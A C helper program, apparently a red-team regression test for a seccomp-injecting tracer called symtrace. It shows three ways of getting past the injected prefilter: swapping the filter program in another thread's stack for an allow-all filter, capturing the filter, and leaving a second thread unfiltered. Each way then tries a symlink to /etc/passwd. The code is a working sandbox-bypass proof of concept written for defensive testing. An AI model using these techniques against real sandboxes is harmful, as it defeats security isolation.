/* redteam19.c - helper of redteam19.sh (issue 19, the injected prefilter).
 *
 * redteam19 swap|noswap|native DIR
 *   A process of two threads.  The main thread makes no system call after
 *   "ready": it scans the stack of the other thread (a stack of its own,
 *   mmap'd) for the struct sock_fprog symtrace writes below that thread's
 *   stack pointer to inject the prefilter (a length, then a pointer to
 *   the 16 bytes after it), and ("swap") rewrites it to point to a
 *   one-instruction ALLOW program of its own before the kernel copies
 *   it.  The other thread calls prctl(PR_GET_SECCOMP) every millisecond
 *   until it says 2 (a filter is installed), then tries
 *   symlinkat("/etc/passwd", DIR/evil) and prints
 *     swapped=0|1 symlinkat=0|ERRNO
 *   and exits.  Without a check of the installed program, symtrace takes
 *   the swapped filter for its own: the process runs unstopped and the
 *   symlink is made.
 *
 * redteam19 capture DIR
 *   The same scan, which copies the program instead (to DIR/prog, once
 *   prctl says 2): symtrace's very prefilter, as any process it is
 *   injected into can read it.
 * redteam19 partial DIR
 *   Installs DIR/prog itself in its main thread only (no TSYNC); a second
 *   thread has no filter.  Prints "ready", waits (a nanosleep loop) until
 *   it is traced, 300 ms more, then lets the second thread call getppid
 *   twice (symtrace resumes it, now taken for filtered) and
 *   symlinkat("/etc/passwd", DIR/evil); prints "swapped=0 symlinkat=0|
 *   ERRNO". */
#include <errno.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
#include <fcntl.h>

#define STACK (256 * 1024)
#define SCAN (64 * 1024)

static struct sock_filter allow[1] = {
	BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
};
static volatile uintptr_t hi; /* the victim's stack, near its pointer */
static volatile int swapped, done, do_swap, go, berr;
static const char *dir;
static struct sock_filter cap[BPF_MAXINSNS];
static volatile int caplen;

static int result(int r, int e)
{
	printf("swapped=%d symlinkat=%s\n", swapped, r == 0 ? "0" : strerror(e));
	return fflush(stdout) ? 3 : 0;
}

static int evil(void)
{
	char path[4096];

	snprintf(path, sizeof(path), "%s/evil", dir);
	return symlinkat("/etc/passwd", AT_FDCWD, path);
}

static void *unfiltered(void *arg)
{
	(void)arg;
	while (!go)
		;
	syscall(SYS_getppid);
	syscall(SYS_getppid);
	berr = evil() == 0 ? 0 : errno;
	go = 2;
	return NULL;
}

static int partial(void)
{
	struct timespec ms = { 0, 1000000 }, more = { 0, 300000000 };
	struct sock_fprog f = { 0, cap };
	char path[4096], buf[4096], *p;
	pthread_t th;
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "%s/prog", dir);
	if ((fd = open(path, O_RDONLY)) < 0 ||
	    (n = read(fd, cap, sizeof(cap))) <= 0 || close(fd) < 0)
		return 2;
	f.len = (unsigned short)(n / sizeof(cap[0]));
	if (pthread_create(&th, NULL, unfiltered, NULL) ||
	    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 ||
	    syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &f) < 0)
		return 2;
	printf("ready\n");
	fflush(stdout);
	for (;;) {
		nanosleep(&ms, NULL);
		if ((fd = open("/proc/self/status", O_RDONLY)) < 0)
			return 2;
		n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		buf[n > 0 ? n : 0] = 0;
		if ((p = strstr(buf, "TracerPid:")) && atoi(p + 10) != 0)
			break;
	}
	nanosleep(&more, NULL);
	go = 1;
	while (go == 1)
		nanosleep(&ms, NULL);
	return result(berr ? -1 : 0, berr);
}

static void *victim(void *arg)
{
	volatile char marker = 0;
	struct timespec ms = { 0, 1000000 };
	int r, e;

	(void)arg;
	hi = (uintptr_t)&marker & ~(uintptr_t)15;
	printf("ready\n");
	fflush(stdout);
	while (do_swap >= 0 && prctl(PR_GET_SECCOMP, 0, 0, 0, 0) != 2)
		nanosleep(&ms, NULL);
	if (do_swap == 2) {
		char path[4096];
		int fd;

		nanosleep(&ms, NULL); /* (the scan's copy is done) */
		done = 1;
		snprintf(path, sizeof(path), "%s/prog", dir);
		fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		r = fd >= 0 && caplen > 0 &&
		    write(fd, cap, caplen * sizeof(cap[0])) ==
			    (ssize_t)(caplen * sizeof(cap[0]));
		printf("captured=%d\n", r ? caplen : 0);
		fflush(stdout);
		_exit(0);
	}
	r = evil();
	e = errno;
	done = 1;
	_exit(result(r, e));
	return NULL;
}

int main(int argc, char **argv)
{
	pthread_attr_t a;
	pthread_t th;
	void *stk;

	if (argc != 3) {
		fprintf(stderr, "usage: redteam19 swap|noswap|native|capture|partial DIR\n");
		return 2;
	}
	/* (native: no wait for a filter, the control without symtrace.) */
	dir = argv[2];
	if (strcmp(argv[1], "partial") == 0)
		return partial();
	do_swap = strcmp(argv[1], "native") == 0 ? -1
		  : strcmp(argv[1], "capture") == 0 ? 2
		  : strcmp(argv[1], "swap") == 0;
	stk = mmap(NULL, STACK, PROT_READ | PROT_WRITE,
		   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (stk == MAP_FAILED)
		return 2;
	memset(stk, 0, STACK);
	pthread_attr_init(&a);
	pthread_attr_setstack(&a, stk, STACK);
	if (pthread_create(&th, &a, victim, NULL))
		return 2;
	while (!hi)
		;
	/* No system call from here on: this thread never stops. */
	while (!done) {
		uintptr_t lo = hi - SCAN, o;

		if (do_swap <= 0)
			continue;
		for (o = hi - 32; o >= lo; o -= 16) {
			volatile uint64_t *p = (volatile uint64_t *)o;

			if (!(p[1] == o + 16 && p[0] > 0 &&
			      p[0] <= BPF_MAXINSNS))
				continue;
			if (do_swap == 2) {
				if (!caplen) {
					memcpy(cap, (void *)(o + 16),
					       p[0] * sizeof(cap[0]));
					caplen = (int)p[0];
				}
			} else {
				p[1] = (uint64_t)(uintptr_t)allow;
				p[0] = 1;
				swapped = 1;
			}
		}
	}
	for (;;)
		pause();
}
